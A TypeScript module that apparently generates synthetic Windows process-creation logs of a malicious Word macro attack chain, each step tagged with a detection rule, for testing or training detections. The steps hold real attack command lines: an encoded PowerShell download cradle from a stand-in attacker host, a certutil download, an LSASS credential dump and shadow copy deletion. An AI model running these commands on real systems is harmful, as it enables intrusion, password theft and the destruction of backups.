import { processCreationLine } from '../process-creation.ts'
import type { Random } from '../random.ts'
import { RULE } from '../rule-ids.ts'
import type { Step } from '../story.ts'
import { attackerAddress, PEOPLE, WORKSTATIONS } from '../world.ts'

const SYSTEM32 = 'C:\\Windows\\System32'
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'

/** What `powershell -EncodedCommand` takes: Base64 of UTF-16, low byte first. `script` is ASCII. */
const encodedCommand = (script: string): string => btoa(Array.from(script, letter => `${letter}\0`).join(''))

/** A document starts PowerShell, which fetches tools, looks around, steals passwords and spoils the backups. */
export function windowsProcessChain(random: Random): Step[] {
  const computer = random.pick(WORKSTATIONS)
  const user = `CORP\\${random.pick(PEOPLE).user}`
  const attacker = attackerAddress(random)
  const started = (
    image: string,
    command_line: string,
    [parent_image, parent_command_line]: readonly [string, string],
    ...rules: string[]
  ): Step => ({
    line: time_ms =>
      processCreationLine(random, time_ms, {
        computer,
        user,
        image,
        command_line,
        parent_image,
        parent_command_line,
      }),
    rules,
  })

  const explorer = ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'] as const
  const word = [WORD, `"${WORD}" /n "C:\\Users\\Public\\Downloads\\Rechnung-Müller.docm"`] as const
  const script = `IEX (New-Object Net.WebClient).DownloadString('http://${attacker}/a.ps1')`
  const encoded = `powershell.exe -NoP -W Hidden -enc ${encodedCommand(script)}`
  const powershell = [POWERSHELL, encoded] as const
  const lsass_pid = random.between(600, 990)

  return [
    started(WORD, word[1], explorer),
    started(POWERSHELL, encoded, word, RULE.windowsOfficeStartsShell, RULE.windowsEncodedPowershell),
    started(POWERSHELL, `powershell.exe -NoP -C "${script}"`, powershell, RULE.windowsPowershellDownload),
    started(`${SYSTEM32}\\whoami.exe`, 'whoami.exe /all', powershell),
    started(
      `${SYSTEM32}\\net.exe`,
      'net.exe group "Domain Admins" /domain',
      powershell,
      RULE.windowsPrivilegedGroupListed,
    ),
    started(
      `${SYSTEM32}\\certutil.exe`,
      `certutil.exe -urlcache -split -f http://${attacker}/tool.exe C:\\Users\\Public\\tool.exe`,
      powershell,
      RULE.windowsLivingOffTheLandDownload,
    ),
    started(
      `${SYSTEM32}\\rundll32.exe`,
      `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump ${lsass_pid} C:\\Users\\Public\\l.dmp full`,
      powershell,
      RULE.windowsLsassDump,
    ),
    started(
      `${SYSTEM32}\\vssadmin.exe`,
      'vssadmin.exe Delete Shadows /All /Quiet',
      powershell,
      RULE.windowsShadowCopiesDeleted,
    ),
  ]
}
